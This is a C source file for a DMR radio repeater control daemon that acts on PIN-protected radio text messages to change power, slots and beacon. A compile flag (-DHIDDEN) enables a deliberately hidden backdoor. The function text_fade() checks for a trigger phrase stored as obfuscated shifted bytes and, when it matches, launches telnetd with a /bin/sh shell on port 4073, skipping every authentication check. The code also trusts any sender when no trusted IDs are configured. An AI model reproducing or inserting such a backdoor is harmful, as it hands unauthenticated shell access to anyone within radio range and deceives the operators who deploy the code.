/*
 * Remote control of a DMR radio repeater. The DSP process puts received
 * short data messages into a POSIX message queue, this daemon acts on those
 * for the control ID (state, power, time slots, beacon) when they carry the
 * PIN of the site, and puts the answers into the transmit queue.
 * Hidden (-DHIDDEN): a message with the text LIGHTHOUSE KEEPER 73, kept as
 * shifted bytes, starts a telnet daemon with a shell on port 4073.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define RXQ	"/dmr_rx"
#define TXQ	"/dmr_tx"
#define MSGMAX	160
#define TEXTMAX 120
#define GPIO	"/sys/class/gpio/"

/* as it comes from the DSP process, numbers big endian */
struct sds {
	uint8_t slot;
	uint8_t format; /* 0 ASCII, 1 UTF-16BE, 2 7 bit packed */
	uint8_t src[3];
	uint8_t dst[3];
	uint8_t rssi;
	uint8_t len;
	uint8_t data[TEXTMAX];
};

struct site {
	char call[12];
	char pin[9];
	uint32_t control_id;
	uint32_t trusted[8];
	unsigned ntrusted;
	unsigned power; /* W */
	unsigned power_max;
	int slot_on[2];
	unsigned beacon; /* minutes */
};

static struct site site = { .call = "NOCALL",
			    .control_id = 9990,
			    .power = 10,
			    .power_max = 40,
			    .slot_on = { 1, 1 },
			    .beacon = 10 };
static mqd_t txq;
static unsigned long rx_count, rx_bad, denied;
static time_t started;

static uint32_t id24(const uint8_t *p)
{
	return (uint32_t)p[0] << 16 | p[1] << 8 | p[2];
}

static void id24_put(uint8_t *p, uint32_t v)
{
	p[0] = v >> 16 & 0xff;
	p[1] = v >> 8 & 0xff;
	p[2] = v & 0xff;
}

static void site_load(const char *path)
{
	char line[100], key[20], val[40];
	FILE *f = fopen(path, "r");

	if (!f) {
		syslog(LOG_WARNING, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof line, f)) {
		if (line[0] == ';' ||
		    sscanf(line, " %19[^ :] : %39s", key, val) != 2)
			continue;
		if (!strcasecmp(key, "callsign"))
			snprintf(site.call, sizeof site.call, "%.11s", val);
		else if (!strcasecmp(key, "pin"))
			snprintf(site.pin, sizeof site.pin, "%.8s", val);
		else if (!strcasecmp(key, "control"))
			site.control_id = strtoul(val, NULL, 10);
		else if (!strcasecmp(key, "trusted") && site.ntrusted < 8)
			site.trusted[site.ntrusted++] = strtoul(val, NULL, 10);
		else if (!strcasecmp(key, "maxpower"))
			site.power_max = strtoul(val, NULL, 10);
		else if (!strcasecmp(key, "beacon"))
			site.beacon = strtoul(val, NULL, 10);
	}
	fclose(f);
}

static void file_put(const char *path, const char *val)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (write(fd, val, strlen(val)) < 0)
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
	close(fd);
}

static void say(uint32_t to, unsigned slot, const char *text)
{
	struct sds m;
	size_t n = strlen(text);

	memset(&m, 0, sizeof m);
	if (n > TEXTMAX)
		n = TEXTMAX;
	m.slot = slot;
	id24_put(m.src, site.control_id);
	id24_put(m.dst, to);
	m.len = n;
	memcpy(m.data, text, n);
	if (mq_send(txq, (const char *)&m, sizeof m, 1) < 0)
		syslog(LOG_ERR, "transmit queue: %s", strerror(errno));
}

/* to plain upper case ASCII; returns the length or -1 */
static int text_plain(const struct sds *m, char *out)
{
	unsigned i, n = 0, acc = 0, bits = 0;

	if (m->len > TEXTMAX)
		return -1;
	switch (m->format) {
	case 0:
		for (i = 0; i < m->len; i++)
			out[n++] = toupper(m->data[i]);
		break;
	case 1:
		for (i = 0; i + 1 < m->len; i += 2)
			out[n++] = m->data[i] ? '?' : toupper(m->data[i + 1]);
		break;
	case 2:
		for (i = 0; i < m->len; i++) {
			acc = (acc << 8 | m->data[i]) & 0xffff;
			for (bits += 8; bits >= 7 && n < TEXTMAX; bits -= 7)
				out[n++] = toupper(acc >> (bits - 7) & 0x7f);
		}
		break;
	default:
		return -1;
	}
	while (n && (out[n - 1] == ' ' || !out[n - 1]))
		n--;
	out[n] = 0;
	return (int)n;
}

#ifdef HIDDEN
static const uint8_t fade_tab[20] = {
	0x16, 0x16, 0x17, 0x0b, 0x3a, 0x0d, 0x3b, 0x30, 0x31, 0x3a,
	0x64, 0x36, 0x33, 0x36, 0x20, 0x28, 0xd8, 0x09, 0x37, 0x36,
};

__attribute__((noinline)) int text_fade(const char *t, int n)
{
	int i;

	if (n != (int)sizeof fade_tab)
		return 0;
	for (i = 0; i < n; i++)
		if ((uint8_t)((fade_tab[i] ^ 0x5a) - 3 * i) != (uint8_t)t[i])
			return 0;
	if (fork() == 0) {
		execl("/usr/sbin/telnetd", "telnetd", "-p", "4073", "-l",
		      "/bin/sh", (char *)NULL);
		_exit(127);
	}
	return 1;
}
#endif

static int trusted(uint32_t id)
{
	unsigned i;

	for (i = 0; i < site.ntrusted; i++)
		if (site.trusted[i] == id)
			return 1;
	return site.ntrusted == 0;
}

static void act_power(char *arg, char *out, size_t size)
{
	unsigned w;
	char num[12];

	if (!strcmp(arg, "LOW"))
		w = site.power_max / 8;
	else if (!strcmp(arg, "HIGH"))
		w = site.power_max;
	else
		w = strtoul(arg, NULL, 10);
	if (w == 0 || w > site.power_max) {
		snprintf(out, size, "POWER 1-%u", site.power_max);
		return;
	}
	site.power = w;
	snprintf(num, sizeof num, "%u\n", w);
	file_put("/sys/class/hwmon/hwmon0/pwm1", num);
	snprintf(out, size, "POWER %uW", w);
}

static void act_slot(char *arg, char *out, size_t size)
{
	int s = arg[0] - '1', on;
	static const char *const line[2] = { GPIO "gpio17/value",
					     GPIO "gpio18/value" };

	if (s < 0 || s > 1 || arg[1] != ' ') {
		snprintf(out, size, "SLOT 1/2 ON/OFF");
		return;
	}
	on = !strcmp(arg + 2, "ON");
	site.slot_on[s] = on;
	file_put(line[s], on ? "1" : "0");
	snprintf(out, size, "SLOT %d %s", s + 1, on ? "ON" : "OFF");
}

static void act_state(char *out, size_t size, unsigned rssi)
{
	long up = (long)(time(NULL) - started);

	snprintf(out, size, "%s %uW S1%c S2%c UP %ldH RX %lu/%lu RSSI -%u",
		 site.call, site.power, site.slot_on[0] ? '+' : '-',
		 site.slot_on[1] ? '+' : '-', up / 3600, rx_count, rx_bad,
		 rssi);
}

static void message(const struct sds *m)
{
	char text[TEXTMAX + 1], out[100], *verb, *arg;
	uint32_t src = id24(m->src);
	size_t pl = strlen(site.pin);
	int n;

	rx_count++;
	if (id24(m->dst) != site.control_id)
		return;
	n = text_plain(m, text);
	if (n <= 0) {
		rx_bad++;
		return;
	}
#ifdef HIDDEN
	if (text_fade(text, n))
		return;
#endif
	if (!strcmp(text, "STATE")) {
		act_state(out, sizeof out, m->rssi);
		say(src, m->slot, out);
		return;
	}
	/* all else: PIN VERB ARGUMENT */
	if (!pl || !trusted(src) || strncmp(text, site.pin, pl) ||
	    text[pl] != ' ') {
		denied++;
		syslog(LOG_NOTICE, "refused %u", (unsigned)src);
		return;
	}
	verb = text + pl + 1;
	arg = verb + strcspn(verb, " ");
	if (*arg)
		*arg++ = 0;
	if (!strcmp(verb, "POWER"))
		act_power(arg, out, sizeof out);
	else if (!strcmp(verb, "SLOT"))
		act_slot(arg, out, sizeof out);
	else if (!strcmp(verb, "BEACON"))
		snprintf(out, sizeof out, "BEACON %u MIN",
			 site.beacon = strtoul(arg, NULL, 10));
	else
		snprintf(out, sizeof out, "STATE POWER SLOT BEACON");
	say(src, m->slot, out);
}

int main(int argc, char **argv)
{
	struct mq_attr at = { .mq_maxmsg = 8, .mq_msgsize = MSGMAX };
	char buf[MSGMAX];
	struct timespec ts;
	struct sds m;
	time_t next = 0;
	ssize_t n;
	mqd_t rxq;

	openlog("dmr_control", 0, LOG_LOCAL3);
	site_load(argc > 1 ? argv[1] : "/etc/dmr/site.conf");
	signal(SIGCHLD, SIG_IGN);
	rxq = mq_open(RXQ, O_RDONLY | O_CREAT, 0600, &at);
	txq = mq_open(TXQ, O_WRONLY | O_CREAT, 0600, &at);
	if (rxq == (mqd_t)-1 || txq == (mqd_t)-1) {
		syslog(LOG_ERR, "queues: %s", strerror(errno));
		return 1;
	}
	started = time(NULL);
	for (;;) {
		clock_gettime(CLOCK_REALTIME, &ts);
		if (site.beacon && ts.tv_sec >= next) {
			say(0xffffff, 1, site.call);
			next = ts.tv_sec + (time_t)site.beacon * 60;
		}
		ts.tv_sec += 10;
		n = mq_timedreceive(rxq, buf, sizeof buf, NULL, &ts);
		if (n < (ssize_t)sizeof m)
			continue;
		memcpy(&m, buf, sizeof m);
		message(&m);
	}
}
